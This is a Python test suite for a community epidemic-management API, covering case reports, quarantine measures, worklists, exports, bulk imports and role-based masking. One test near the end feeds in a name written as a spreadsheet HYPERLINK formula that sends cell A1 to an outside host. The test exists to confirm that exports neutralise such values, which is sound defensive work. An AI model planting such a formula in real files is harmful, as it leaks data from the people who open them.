"""Community health management over HTTP: reports, cases, follow-up, groups and worklists,
each role seeing only what it may."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import Workbook, load_workbook

from tests.api_helpers import COMMUNITY, ROLES, bearer
from tests.community.helpers import AREA, ID, PHONE, arrival, report

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_a_worker_reports_an_arrival_and_a_case_opens_with_the_decided_measures(client, tokens):
    made = report(client, tokens["community_worker"])
    assert made.status_code == 201, made.text
    body = made.json()
    assert body["community"] == COMMUNITY and body["pack"] == "beijing-2021-08 2021.08.07"
    assert [(m["kind"], m["start"], m["end"]) for m in body["measures"]] == [
        ("home_observation", "2021-08-04", "2021-08-17"),  # counted from 08-03, from arrival on
        ("nucleic_acid_test", "2021-08-04", None),
        ("health_monitoring", "2021-08-17", "2021-08-24"),
    ]
    case = client.get(
        f"/api/v1/community/cases/{body['case_id']}", headers=bearer(tokens["community_worker"])
    ).json()
    assert (case["person"], case["phone"], case["employer"]) == (
        "张三",
        PHONE,
        "北京某科技有限公司",
    )
    seen_by_cdc = client.get(
        f"/api/v1/community/cases/{body['case_id']}", headers=bearer(tokens["cdc"])
    ).json()
    assert (seen_by_cdc["person"], seen_by_cdc["phone"]) == ("张*", "139****5678")
    for role in set(ROLES) - {"community_worker", "cdc"}:
        path = f"/api/v1/community/cases/{body['case_id']}"
        assert client.get(path, headers=bearer(tokens[role])).status_code == 403, role


def test_no_case_without_measures_and_reports_only_for_the_own_community(client, tokens):
    calm = arrival()
    calm["stays"] = [{"place": "江苏省南京市鼓楼区", "from": "2021-08-01", "to": "2021-08-03"}]
    made = report(client, tokens["community_worker"], situation=calm).json()
    assert made["case_id"] is None and made["measures"] == []
    elsewhere = report(
        client, tokens["community_worker"], community="北京市海淀区中关村街道科源社区"
    )
    assert elsewhere.status_code == 403
    for role in ("cdc", "clinic", "hotline", "admin"):
        assert report(client, tokens[role]).status_code == 403, role
    bad = report(client, tokens["community_worker"], number="110105194912310021")
    assert bad.status_code == 422 and "person.document_number" in bad.text


def test_a_citizen_reports_for_themself_from_their_health_kit_account(client, tokens):
    citizen = tokens["citizen"]
    client.post(
        "/api/v1/healthkit/account",
        json={"name": "李四", "document_number": ID, "community": COMMUNITY},
        headers=bearer(citizen),
    )
    body = {"community": COMMUNITY, "situation": arrival()}
    made = client.post("/api/v1/community/reports", json=body, headers=bearer(citizen))
    assert made.status_code == 201, made.text
    cases = client.get("/api/v1/community/cases", headers=bearer(tokens["community_worker"])).json()
    assert [c["person"] for c in cases] == ["李四"]


def _worklist(client, token, day, **params):
    return client.get(
        "/api/v1/community/worklist", params={"day": day, **params}, headers=bearer(token)
    )


def test_daily_checks_feed_the_worklist_and_missed_ones_escalate(client, tokens):
    worker = tokens["community_worker"]
    case_id = report(client, worker).json()["case_id"]
    checks = f"/api/v1/community/cases/{case_id}/checks"
    for day in ("2021-08-04", "2021-08-05"):
        done = client.post(checks, json={"day": day, "temperature": "36.5"}, headers=bearer(worker))
        assert done.status_code == 201, done.text
    again = client.post(
        checks, json={"day": "2021-08-05", "temperature": "36.6"}, headers=bearer(worker)
    )
    assert again.status_code == 409
    fever = client.post(
        checks,
        json={"day": "2021-08-06", "temperature": "38.2", "symptoms": ["咳嗽"]},
        headers=bearer(worker),
    )
    assert fever.json()["checks"][-1]["abnormal"] is True
    wild = client.post(
        checks, json={"day": "2021-08-07", "temperature": "48"}, headers=bearer(worker)
    )
    assert wild.status_code == 422 and "temperature" in wild.text

    on_7th = _worklist(client, worker, "2021-08-07").json()
    assert [(i["what"], i["person"]) for i in on_7th["items"]] == [
        ("test_due", "张三"),
        ("abnormal_check", "张三"),
    ]
    on_9th = [i["what"] for i in _worklist(client, worker, "2021-08-10").json()["items"]]
    assert "check_escalated" in on_9th
    client.post(
        f"/api/v1/community/cases/{case_id}/tests",
        json={"day": "2021-08-09", "result": "negative"},
        headers=bearer(worker),
    )
    assert "test_due" not in [
        i["what"] for i in _worklist(client, worker, "2021-08-09").json()["items"]
    ]
    masked = _worklist(client, tokens["cdc"], "2021-08-08", community=COMMUNITY).json()
    assert {i["person"] for i in masked["items"]} == {"张*"}
    assert _worklist(client, tokens["cdc"], "2021-08-08").status_code == 422  # CDC names one


def test_the_worklist_exports_to_excel_and_csv(client, tokens):
    worker = tokens["community_worker"]
    report(client, worker)
    xlsx = _worklist(client, worker, "2021-08-17", format="xlsx")
    assert xlsx.status_code == 200 and xlsx.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1] == ("事项", "个案", "姓名", "手机号", "措施", "说明")
    assert (
        rows[2][0],
        rows[2][2],
        rows[2][3],
        rows[2][4],
    ) == ("今日开始", "张三", PHONE, "健康监测")
    text = _worklist(client, tokens["cdc"], "2021-08-17", community=COMMUNITY, format="csv").text
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert (
        lines[0][0] == "事项" and lines[1][2] == "张*" and PHONE not in text and "张三" not in text
    )


def test_a_worker_ends_a_measure_and_cdc_adjusts_one_with_reasons_in_the_audit_log(client, tokens):
    worker, cdc = tokens["community_worker"], tokens["cdc"]
    made = report(client, worker).json()
    home = next(m for m in made["measures"] if m["kind"] == "home_observation")
    path = f"/api/v1/community/cases/{made['case_id']}/measures/{home['id']}/end"
    ended = client.post(
        path, json={"day": "2021-08-10", "reason": "转为集中观察"}, headers=bearer(worker)
    )
    assert ended.status_code == 200 and ended.json()["until"] == "2021-08-10"
    assert (
        client.post(
            path, json={"day": "2021-08-11", "reason": "x"}, headers=bearer(worker)
        ).status_code
        == 409
    )

    monitor = next(m for m in made["measures"] if m["kind"] == "health_monitoring")
    adjust = f"/api/v1/community/measures/{monitor['id']}/adjust"
    body = {"end": "2021-08-31", "reason": "疾控研判延长健康监测"}
    assert client.post(adjust, json=body, headers=bearer(worker)).status_code == 403
    adjusted = client.post(adjust, json=body, headers=bearer(cdc))
    assert adjusted.status_code == 200 and adjusted.json()["end"] == "2021-08-31"
    backwards = client.post(adjust, json={"end": "2021-08-01", "reason": "x"}, headers=bearer(cdc))
    assert backwards.status_code == 422
    audit = client.get("/api/v1/audit", headers=bearer(cdc)).json()
    entry = next(e for e in audit if e["action"] == "adjust_measure")
    assert (entry["before"]["end"], entry["after"]["end"]) == ("2021-08-24", "2021-08-31")
    assert entry["after"]["reason"] == "疾控研判延长健康监测"
    assert any(e["action"] == "end_measure" for e in audit)
    assert ID not in str(audit) and "张三" not in str(audit)


def test_lifting_a_secondary_close_contact_ends_the_groups_closed_loop(client, tokens):
    worker, cdc = tokens["community_worker"], tokens["cdc"]
    calm = [{"place": "江苏省南京市鼓楼区", "from": "2021-08-01", "to": "2021-08-02"}]
    contact_situation = {
        "as_of": "2021-08-05",
        "arrival": "2021-08-04",
        "stays": calm,
        "contact": {"role": "secondary_close_contact", "last_contact": "2021-08-03"},
    }
    contact = report(client, worker, situation=contact_situation).json()
    assert contact["measures"][0]["kind"] == "centralized_observation"
    member_situation = {
        "as_of": "2021-08-05",
        "arrival": "2021-08-04",
        "stays": calm,
        "contact": {"role": "cohabitant_of_secondary_close_contact", "last_contact": "2021-08-03"},
    }
    member = report(
        client,
        worker,
        name="张小三",
        number="110101199003071233",
        phone="13800138000",
        situation=member_situation,
        contact_case_id=contact["case_id"],
    ).json()
    kinds = {m["kind"]: m for m in member["measures"]}
    assert kinds["closed_loop_management"]["end"] is None
    detail = client.get(
        f"/api/v1/community/cases/{contact['case_id']}", headers=bearer(worker)
    ).json()
    assert [(m["id"], m["link"]) for m in detail["members"]] == [(member["case_id"], "cohabitant")]

    wrong = report(
        client,
        worker,
        number="110101199003071233",
        situation=arrival(),
        contact_case_id=contact["case_id"],
    )
    assert wrong.status_code == 422  # only a cohabitant or co-worker joins a contact's group

    lift = f"/api/v1/community/cases/{contact['case_id']}/lift"
    body = {"day": "2021-08-09", "reason": "流调排除次密接"}
    assert client.post(lift, json=body, headers=bearer(worker)).status_code == 403
    lifted = client.post(lift, json=body, headers=bearer(cdc))
    assert lifted.status_code == 200 and lifted.json()["status"] == "closed"
    after = client.get(
        f"/api/v1/community/cases/{member['case_id']}", headers=bearer(worker)
    ).json()
    loop = next(m for m in after["measures"] if m["kind"] == "closed_loop_management")
    assert (loop["until"], loop["end_reason"]) == ("2021-08-09", "次密接解除观察，闭环管理随之结束")
    monitoring = next(m for m in after["measures"] if m["kind"] == "health_monitoring")
    assert monitoring["until"] == kinds["health_monitoring"]["end"]  # counted from the contact
    assert client.post(lift, json=body, headers=bearer(cdc)).status_code == 409


def _workbook(rows) -> bytes:
    book = Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HEADER = ["姓名", "证件号码", "手机号", "工作单位", "到京日期", "途经地", "开始日期", "结束日期"]


def test_an_arrival_list_is_imported_whole_or_not_at_all(client, tokens):
    settings = client.app.state.settings.model_copy(update={"today": date(2021, 8, 7)})
    client.app.state.settings = settings
    client.app.state.clock = settings.clock  # the server's clock: the day of the import
    worker = tokens["community_worker"]
    good = _workbook(
        [
            HEADER,
            [
                "王五",
                "110101199003071233",
                "13800138000",
                "某单位",
                "2021-08-04",
                AREA,
                "2021-08-01",
                "2021-08-02",
            ],
            [
                "王五",
                "110101199003071233",
                "13800138000",
                "某单位",
                "2021-08-04",
                "江苏省南京市鼓楼区",
                "2021-08-02",
                "2021-08-03",
            ],
            ["赵六", ID, "13912345678", "", "2021-08-04", "", "", ""],
        ]
    )
    path = "/api/v1/community/arrivals/import"
    headers = {**bearer(worker), "Content-Type": XLSX}
    done = client.post(path, content=good, headers=headers)
    assert done.status_code == 201, done.text
    assert done.json() == {"reports": 2, "cases": 1}
    # arrived on the 4th, imported on the 7th: no check was due before the community knew
    on_import = _worklist(client, worker, "2021-08-07").json()["items"]
    assert not [i for i in on_import if i["what"] in ("check_overdue", "check_escalated")]
    later = _worklist(client, worker, "2021-08-09").json()["items"]
    assert "check_escalated" in [i["what"] for i in later if i["person"] == "王五"]

    bad = _workbook(
        [
            HEADER,
            ["钱七", "110101199003071234", "13800138001", "", "2021-08-04", "", "", ""],
            [
                "孙八",
                "110101199003071233",
                "12345",
                "",
                "2021/08/04",
                "火星市",
                "2021-08-01",
                "2021-08-02",
            ],
            [
                "周九",
                "110101199003071233",
                "13800138000",
                "",
                "2021-08-04",
                AREA,
                "2021-08-03",
                "2021-08-01",
            ],
        ]
    )
    refused = client.post(path, content=bad, headers=headers)
    assert refused.status_code == 422
    errors = {(e["line"], e["field"]) for e in refused.json()["errors"]}
    assert {(2, "证件号码"), (3, "手机号"), (4, "开始日期")} <= errors
    cases = client.get("/api/v1/community/cases", headers=bearer(worker)).json()
    assert len(cases) == 1  # nothing of the bad list was kept
    not_excel = client.post(path, content=b"name,phone\n", headers=headers)
    assert not_excel.status_code == 422 and "Excel" in not_excel.text
    damaged = good[: len(good) // 2]  # a workbook cut off in the middle
    assert client.post(path, content=damaged, headers=headers).status_code == 422
    assert (
        client.post(
            path, content=good, headers={**bearer(tokens["cdc"]), "Content-Type": XLSX}
        ).status_code
        == 403
    )


def test_an_arrival_declared_in_the_health_kit_without_a_report_is_chased(client, tokens):
    citizen, worker = tokens["citizen"], tokens["community_worker"]
    client.post(
        "/api/v1/healthkit/account",
        json={"name": "李四", "document_number": ID, "community": COMMUNITY},
        headers=bearer(citizen),
    )
    situation = {"as_of": "2021-08-04", "arrival": "2021-08-05", "stays": []}
    client.post("/api/v1/healthkit/declarations", json=situation, headers=bearer(citizen))
    again = {"as_of": "2021-08-07", "arrival": "2021-08-07", "stays": []}
    client.post("/api/v1/healthkit/declarations", json=again, headers=bearer(citizen))
    items = _worklist(client, worker, "2021-08-07").json()["items"]
    assert [(i["what"], i["person"], i["detail"]) for i in items] == [
        ("report_overdue", "李四", "2021-08-05 到京，尚未报告"),
        ("report_overdue", "李四", "今日到京，尚未报告"),
    ]
    client.post(
        "/api/v1/community/reports",
        json={"community": COMMUNITY, "situation": again},
        headers=bearer(citizen),
    )
    assert _worklist(client, worker, "2021-08-07").json()["items"] == []


def test_a_name_that_looks_like_a_formula_stays_text_in_the_exports(client, tokens):
    worker = tokens["community_worker"]
    report(client, worker, name='=HYPERLINK("http://x/?"&A1,"张三")')
    xlsx = _worklist(client, worker, "2021-08-17", format="xlsx")
    cell = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]["C3"]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")
    text = _worklist(client, worker, "2021-08-17", format="csv").text
    assert "\"'=HYPERLINK" in text


def test_a_group_joins_only_a_secondary_contacts_case_of_the_same_community(client, tokens):
    worker, citizen = tokens["community_worker"], tokens["citizen"]
    calm = [{"place": "江苏省南京市鼓楼区", "from": "2021-08-01", "to": "2021-08-02"}]
    contact = report(
        client,
        worker,
        situation={
            "as_of": "2021-08-05",
            "arrival": "2021-08-04",
            "stays": calm,
            "contact": {"role": "secondary_close_contact", "last_contact": "2021-08-03"},
        },
    ).json()
    client.post(
        "/api/v1/healthkit/account",
        json={"name": "李四", "document_number": "110101199003071233"},
        headers=bearer(citizen),
    )
    elsewhere = {
        "community": "北京市海淀区中关村街道科源社区",
        "situation": {
            "as_of": "2021-08-05",
            "arrival": "2021-08-04",
            "stays": calm,
            "contact": {
                "role": "cohabitant_of_secondary_close_contact",
                "last_contact": "2021-08-03",
            },
        },
        "contact_case_id": contact["case_id"],
    }
    refused = client.post("/api/v1/community/reports", json=elsewhere, headers=bearer(citizen))
    assert refused.status_code == 404 and "本社区没有编号为" in refused.text
    missing = {**elsewhere, "contact_case_id": 999}
    other = client.post("/api/v1/community/reports", json=missing, headers=bearer(citizen))
    assert (
        other.json()["detail"].replace("999", str(contact["case_id"])) == refused.json()["detail"]
    )
